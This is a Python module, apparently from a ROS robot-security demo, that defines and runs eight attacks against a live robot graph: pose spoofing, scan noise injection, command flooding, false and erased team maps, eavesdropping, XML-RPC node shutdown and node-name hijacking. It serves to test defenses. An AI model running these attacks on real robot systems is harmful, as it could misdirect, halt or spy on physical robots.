@@ -1,0 +1,146 @@
+"""The demo's attackers, each a separate process built on the toolkit (:mod:`cryptoros.attack.lib`).
+
+``python -m cryptoros.demo.attackers CONFIG.json`` runs one attack against the live
+graph until its duration ends or SIGTERM, then writes what it did and what it saw
+(the attacker's view; success is judged from the victims' side by
+:mod:`cryptoros.demo.run`).
+"""
+
+from __future__ import annotations
+
+import asyncio
+import contextlib
+import json
+import signal
+import sys
+import time
+from pathlib import Path
+from typing import Any
+
+import numpy as np
+
+from cryptoros.attack import lib
+from cryptoros.sim import packets as P
+
+#: name -> (seed paper, what it does, target robot index, who attacks in protected mode)
+ATTACKS: dict[str, dict[str, Any]] = {
+    "spoof-pose": {"seed": "001", "what": "spoofed position published on /{t}/pose at 200 Hz", "target": 0,
+                   "as": "insider"},
+    "scan-noise": {"seed": "001", "what": "laser scan /{t}/scan read and republished as noise", "target": 0,
+                   "as": "stranger"},
+    "cmd-flood": {"seed": "001", "what": "command topic /{t}/cmd_vel flooded with stop commands (1000 Hz)",
+                  "target": 0, "as": "stranger"},
+    "false-map": {"seed": "000", "what": "false 'map explored' claims on /team/map", "target": None, "as": "stranger"},
+    "map-erase": {"seed": "000", "what": "map updates erased in transit (read, erased, republished ahead)",
+                  "target": None, "as": "insider"},
+    "eavesdrop": {"seed": "000", "what": "every topic read and recorded to a rosbag", "target": None, "as": "stranger"},
+    "shutdown": {"seed": "-", "what": "XML-RPC shutdown of node /{t}", "target": -1, "as": "insider"},
+    "hijack": {"seed": "-", "what": "node-name hijack of /{t} (register the same name)", "target": 1, "as": "insider"},
+}
+
+
+def target_of(kind: str, n: int) -> str | None:
+    t = ATTACKS[kind]["target"]
+    return None if t is None else f"r{t % n}"
+
+
+def insider_host(kind: str, n: int) -> str:
+    """The robot host an insider attack runs on: not its victim's."""
+    t = ATTACKS[kind]["target"]
+    base = 0 if t is None else t % n
+    return f"r{(base + 1) % n}"
+
+
+async def run(cfg: dict[str, Any], stop: asyncio.Event) -> dict[str, Any]:
+    kind = cfg["kind"]
+    m, host, dur = cfg["master_uri"], cfg["ros_ip"], float(cfg["duration"])
+    target = cfg.get("target")
+    rng = np.random.default_rng(cfg.get("seed", 7))
+    st = lib.store()
+    W, H = int(cfg["width"]), int(cfg["height"])
+    common = {"host": host, "stop": stop, "duration": dur}
+    if kind == "spoof-pose":
+        def pose(i: int) -> Any:  # the robot "teleports all over the map" (seed 001)
+            return lib.build("geometry_msgs/PoseStamped", {
+                "header": {"seq": i, "frame_id": "map"},
+                "pose": {"position": {"x": float(rng.uniform(0, W * 0.2)), "y": float(rng.uniform(0, H * 0.2))},
+                         "orientation": {"w": 1.0}}}, st)
+        return await lib.spoof_publish(m, f"/{target}/pose", "geometry_msgs/PoseStamped", pose, rate=200.0,
+                                       name="/vicon_bridge", **common)
+    if kind == "scan-noise":
+        return await lib.manipulate(m, f"/{target}/scan", "sensor_msgs/LaserScan",
+                                    lambda msg: lib.noise(msg, "sensor_msgs/LaserScan", rng, st, scale=3.5),
+                                    name="/scan_attacker", **common)
+    if kind == "cmd-flood":
+        stop_cmd = lib.build("geometry_msgs/Twist", {}, st)  # all zero: stop
+        return await lib.flood(m, f"/{target}/cmd_vel", "geometry_msgs/Twist", lambda i: stop_cmd, rate=1000.0,
+                               name="/flooder", **common)
+    if kind == "false-map":
+        t0 = time.time()
+
+        def claim(i: int) -> Any:  # seed 000's impersonation: every cell free, exploration complete
+            return P.make(P.MAP, source="mal0", seq=i + 1, timestamp=(time.time() - t0) * 100.0, position=P.Point(W * 0.1, H * 0.1),
+                          goal=P.Point(W * 0.1, H * 0.1), exploration_complete=True, origin_x=0, origin_y=0, width=W,
+                          height=H, data=np.zeros(W * H, dtype=np.int8))
+        return await lib.spoof_publish(m, "/team/map", P.MAP, claim, rate=2.0, name="/mal0", **common)
+    if kind == "map-erase":
+        def erase(msg: Any) -> Any:  # seed 000's MITM: data erased, goal = position, seq pushed ahead
+            if msg.source not in cfg["team"]:
+                return None
+            return P.replace(msg, data=np.full(len(msg.data), -1, dtype=np.int8), goal=msg.position, seq=msg.seq + 1000,
+                             timestamp=msg.timestamp + 1e-3)
+        return await lib.manipulate(m, "/team/map", P.MAP, erase, name="/mitm", **common)
+    if kind == "eavesdrop":
+        positions: dict[str, list[float]] = {}
+        cells: set[int] = set()
+
+        def seen(topic: str, typename: str, data: bytes) -> None:
+            with contextlib.suppress(Exception):
+                if topic == "/team/hello":
+                    h = P.decode(data, P.HELLO)
+                    positions[h.source] = [round(h.position.x, 2), round(h.position.y, 2)]
+                elif topic == "/team/map":
+                    u = P.decode(data, P.MAP)
+                    d = np.asarray(u.data).reshape(int(u.height), int(u.width))
+                    rr, cc = np.nonzero(d != -1)
+                    cells.update(((rr + int(u.origin_y)) * W + (cc + int(u.origin_x))).tolist())
+
+        rep = await lib.eavesdrop(m, bag=cfg.get("bag"), name="/eavesdropper", on_message=seen, **common)
+        rep["positions_read"] = positions
+        rep["map_cells_read"] = len(cells)
+        rep["map_share_read"] = round(len(cells) / float(W * H), 4)
+        return rep
+    if kind == "shutdown":
+        await asyncio.sleep(0)
+        return await lib.shutdown(m, f"/{target}", host=host, reason="cryptoros demo attack")
+    if kind == "hijack":
+        return await lib.hijack_name(m, f"/{target}", topic="/hijacked", **common)
+    raise SystemExit(f"unknown attack {kind}")
+
+
+def main() -> None:
+    cfg = json.loads(Path(sys.argv[1]).read_text())
+    out = Path(cfg["report"])
+
+    async def go() -> dict[str, Any]:
+        stop = asyncio.Event()
+        loop = asyncio.get_running_loop()
+        for sig in (signal.SIGTERM, signal.SIGINT):
+            loop.add_signal_handler(sig, stop.set)
+        started = time.time()
+        try:
+            rep = await asyncio.wait_for(run(cfg, stop), float(cfg["duration"]) + 30)
+        except Exception as exc:
+            rep = {"refused": f"{type(exc).__name__}: {exc}"}
+        rep["kind"] = cfg["kind"]
+        rep["wall_s"] = round(time.time() - started, 2)
+        return rep
+
+    rep = asyncio.run(go())
+    tmp = out.with_suffix(".tmp")
+    tmp.write_text(json.dumps(rep, default=str))
+    tmp.replace(out)
+
+
+if __name__ == "__main__":
+    main()
